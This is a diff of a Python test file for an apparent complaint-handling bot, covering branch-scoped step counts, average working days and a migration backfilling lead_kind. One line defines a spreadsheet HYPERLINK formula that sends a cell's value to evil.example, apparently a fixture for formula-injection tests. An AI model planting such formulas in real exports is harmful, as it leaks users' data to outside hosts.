@@ -211,20 +211,46 @@ def test_no_unmasked_phone_anywhere_it_should_not_be(app, may):
 
 
 def test_figures_count_each_lead_once_per_step_and_average_working_days(app, may):
-    """The step counts stay distinct leads when a lead has two events for one status in the period, and the
-    acceptance average equals counting each accepted complaint's working days one by one, on both databases."""
-    with get_db(app).scope() as s:  # a repeated event for a status l1 already reached: still one lead
-        s.add(LeadEvent(lead_id=may["l1"], kind="status", status="已受理", at=datetime(2026, 5, 21, 3, tzinfo=UTC)))
+    """The step counts are leads per kind and status, within the user's branches, and the acceptance average equals
+    counting each accepted complaint's working days one by one, on both databases."""
     with app.app_context(), get_db(app).scope() as s:
-        admin = s.scalars(select(StaffUser).where(StaffUser.username == "boss")).one()
+        admin, handler = (s.scalars(select(StaffUser).where(StaffUser.username == u)).one() for u in ("boss", "h"))
         f = compute(s, admin, date(2026, 5, 1), date(2026, 5, 31), date(2026, 6, 1))
+        mine = compute(s, handler, date(2026, 5, 1), date(2026, 5, 31), date(2026, 6, 1))
         accepted = [(lead.received_on, lead.accepted_on) for lead in s.scalars(select(Lead)) if lead.accepted_on]
         copies = s.execute(select(LeadEvent.lead_kind, Lead.kind).join(Lead).where(LeadEvent.kind == "status")).all()
-    assert len(copies) == 9 and [k for k, own in copies if k != own] == [None]  # transition() wrote every copy
-    assert f.steps["complaint:已受理"] == 2 and f.steps["complaint:调解中"] == 1 and f.steps["report:已立案"] == 1
+    assert len(copies) == 8 and all(k == own for k, own in copies)  # transition() wrote every copy
+    assert f.steps == {"complaint:已受理": 2, "complaint:调解中": 1, "complaint:已办结": 1, "complaint:不予受理": 1,
+                       "report:核查中": 1, "report:已立案": 1, "complaint:已转办": 1}  # fmt: skip
+    assert mine.steps == {k: n for k, n in f.steps.items() if k != "complaint:已转办"}  # l4 is another branch's
     cal = deadlines.calendar_for(app)
     days = [deadlines.working_days_left(r, a, cal) for r, a in accepted if date(2026, 5, 1) <= a <= date(2026, 5, 31)]
     assert len(days) == 2 and f.avg_days_to_accept == round(sum(days) / len(days), 1)
+
+
+def test_the_upgrade_gives_an_old_status_event_its_lead_kind(tmp_path):
+    """A status event written without the copy of its lead's kind (by a process older than migration 0008) gets it
+    from migration 0013, so the step counts, which read the copy alone, count it."""
+    from alembic import command
+    from sqlalchemy import text
+
+    from bot.db import Database
+    from bot.db.migrate import alembic_config
+
+    db = Database(f"sqlite:///{tmp_path / 'old.db'}")
+    command.upgrade(alembic_config(db), "0012_lead_messages")
+    with db.engine.begin() as conn:
+        conn.execute(text(
+            "INSERT INTO lead (id, ticket, kind, status, category, business_name, facts, request, received_at,"
+            " received_on, extra, updated_at) VALUES (7, 'T-OLD', 'report', '核查中', '其他', '某店', 'x', 'y',"
+            " '2026-05-06 01:00:00', '2026-05-06', '{}', '2026-05-06 01:00:00')"
+        ))  # fmt: skip
+        conn.execute(text("INSERT INTO lead_event (lead_id, at, kind, status, detail) "
+                          "VALUES (7, '2026-05-07 02:00:00', 'status', '核查中', '{}')"))  # fmt: skip
+    command.upgrade(alembic_config(db), "head")
+    with db.engine.connect() as conn:
+        assert conn.execute(text("SELECT lead_kind FROM lead_event")).scalar_one() == "report"
+    db.engine.dispose()
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
